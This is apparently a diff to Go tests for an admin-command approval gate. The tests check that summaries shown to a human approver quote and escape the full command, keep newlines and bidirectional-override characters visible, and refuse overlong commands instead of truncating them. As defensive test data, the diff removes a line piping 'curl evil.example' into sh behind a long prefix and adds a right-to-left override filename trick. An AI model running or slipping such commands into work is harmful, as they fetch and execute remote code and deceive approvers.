@@ -34,7 +34,7 @@ func TestAdminRequestBindsTheRun(t *testing.T) {
 	if string(base) != want {
 		t.Errorf("canonical\n%s\nwant\n%s", base, want)
 	}
-	if summary != "admin in src: apt-get install -y jq" {
+	if summary != `admin in "src": "apt-get install -y jq"` {
 		t.Errorf("summary %q", summary)
 	}
 	for name, change := range map[string]func(*Spec){
@@ -83,22 +83,46 @@ func TestAdminRequestRefuses(t *testing.T) {
 }
 
 func TestAdminSummary(t *testing.T) {
-	long := "echo " + strings.Repeat("a", 200) + "; curl evil.example | sh"
 	tests := []struct {
 		cmd, cwd, want string
 	}{
-		{"id", "", "admin: id"},
-		{"make\n\tinstall   PREFIX=/usr", "", "admin: make install PREFIX=/usr"},
-		{"ls", "a/b", "admin in a/b: ls"},
-		{long, "", "admin [" + fmt.Sprint(len(long)) + "-byte command, shortened]: " + long[:adminShown] + "…"},
-		{strings.Repeat("é", 130), "", "admin [260-byte command, shortened]: " + strings.Repeat("é", adminShown) + "…"},
+		{"id", "", `admin: "id"`},
+		// Two commands must not read like one: a newline is not a space.
+		{"make\n\tinstall   PREFIX=/usr", "", `admin: "make\n\tinstall   PREFIX=/usr"`},
+		{`echo a\nb`, "", `admin: "echo a\\nb"`},
+		{"ls", "a/b", `admin in "a/b": "ls"`},
+		{"echo \u202egnp.exe", "", `admin: "echo \u202egnp.exe"`}, // a bidirectional override shows as its escape
+		{"echo é", "", `admin: "echo é"`},
 	}
 	for _, tt := range tests {
 		if got := adminSummary(Spec{Command: tt.cmd, Cwd: tt.cwd}); got != tt.want {
 			t.Errorf("adminSummary(%q, %q) = %q, want %q", tt.cmd, tt.cwd, got, tt.want)
 		}
-		if n := len([]rune(adminSummary(Spec{Command: tt.cmd, Cwd: strings.Repeat("d", 100)}))); n > 200 {
-			t.Errorf("summary of %q is %d runes: the gate would cut it", tt.cmd, n)
+	}
+}
+
+// TestAdminRequestShowsTheWholeCommand: a command or working folder too long to show whole is
+// refused, never shortened; the longest accepted ones fit the gate's 200-rune summary uncut.
+func TestAdminRequestShowsTheWholeCommand(t *testing.T) {
+	s := adminSpec()
+	s.Command = strings.Repeat("a", AdminShown-2) // quoted: exactly AdminShown
+	s.Cwd = strings.Repeat("d", adminCwdShown-2)
+	_, summary, err := AdminRequest(s)
+	if err != nil {
+		t.Fatalf("AdminRequest of the longest command and folder: %v", err)
+	}
+	if n := len([]rune(summary)); n > 200 || !strings.Contains(summary, s.Command) || !strings.Contains(summary, s.Cwd) {
+		t.Errorf("summary %q (%d runes): want the whole command and folder within 200", summary, n)
+	}
+	for name, change := range map[string]func(*Spec){
+		"long command":         func(s *Spec) { s.Command += "a" },
+		"escapes make it long": func(s *Spec) { s.Command = s.Command[:len(s.Command)-1] + "\n" },
+		"long folder":          func(s *Spec) { s.Cwd += "d" },
+	} {
+		s := s
+		change(&s)
+		if _, _, err := AdminRequest(s); err == nil || !strings.Contains(err.Error(), "as the person would read it") {
+			t.Errorf("%s: AdminRequest gave %v, want a refusal saying why", name, err)
 		}
 	}
 }
